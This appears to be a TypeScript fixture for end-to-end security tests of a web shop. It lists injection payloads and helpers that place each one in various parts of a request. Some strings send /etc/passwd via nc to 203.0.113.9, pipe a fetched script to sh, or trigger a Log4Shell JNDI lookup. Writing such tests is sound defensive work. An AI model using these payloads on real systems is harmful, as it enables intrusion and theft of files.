/** Attacks for the end-to-end tests, written by hand. Tests may hold attack strings; training data never does. */
import type { Outgoing } from './harness/http.js';

export const PAYLOADS: Readonly<Record<string, string>> = {
  'SQL injection, union': "x' UNION SELECT username, password FROM users-- -",
  'SQL injection, boolean': "1' OR '1'='1",
  'cross-site scripting, script': '<script>alert(document.cookie)</script>',
  'cross-site scripting, attribute': '"><img src=x onerror=alert(1)>',
  'path traversal': '../../../../../../etc/passwd',
  'command injection, semicolon': '; cat /etc/passwd | nc 203.0.113.9 4444',
  'command injection, substitution': '$(curl http://203.0.113.9/x.sh|sh)',
  'template injection': "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is Log4j's template, not ours.
  Log4Shell: '${jndi:ldap://203.0.113.9:1389/a}',
};

/** For tests of what follows a denial: of all above the one that leaves the least doubt. */
export const UNMISTAKABLE = PAYLOADS['template injection']!;

/** How often the payload is percent-encoded beyond what its place asks for. */
export type Encoding = 'plain' | 'double-encoded';

type Place = (payload: string) => Outgoing;

const multipart = (caption: string): string =>
  [
    '--WebKitFormBoundaryq3RX7Zp1',
    'Content-Disposition: form-data; name="caption"',
    '',
    caption,
    '--WebKitFormBoundaryq3RX7Zp1',
    'Content-Disposition: form-data; name="file"; filename="lamp.txt"',
    'Content-Type: text/plain',
    '',
    'It fits the corner.',
    '--WebKitFormBoundaryq3RX7Zp1--',
    '',
  ].join('\r\n');

/** A request of the shop with the payload in one place, well-formed otherwise. */
export const PLACES: Readonly<Record<string, Place>> = {
  path: (payload) => ({ path: `/products/${encodeURIComponent(payload)}` }),
  query: (payload) => ({ path: `/search?${new URLSearchParams({ q: payload })}` }),
  form: (payload) => ({
    method: 'POST',
    path: '/login',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ email: payload, password: 'winter-2025', remember: 'on' }).toString(),
  }),
  JSON: (payload) => ({
    method: 'POST',
    path: '/api/cart',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ sku: 'FUR-0001-WAL', quantity: 1, note: payload }),
  }),
  multipart: (payload) => ({
    method: 'POST',
    path: '/upload',
    headers: { 'Content-Type': 'multipart/form-data; boundary=WebKitFormBoundaryq3RX7Zp1' },
    body: multipart(payload),
  }),
  header: (payload) => ({ path: '/products?category=kitchen', headers: { 'X-Api-Version': payload } }),
  cookie: (payload) => ({ path: '/cart', headers: { Cookie: `theme=dark; geo=${payload.replaceAll(';', '%3B')}` } }),
};

export function encode(payload: string, encoding: Encoding): string {
  return encoding === 'plain' ? payload : encodeURIComponent(encodeURIComponent(payload));
}
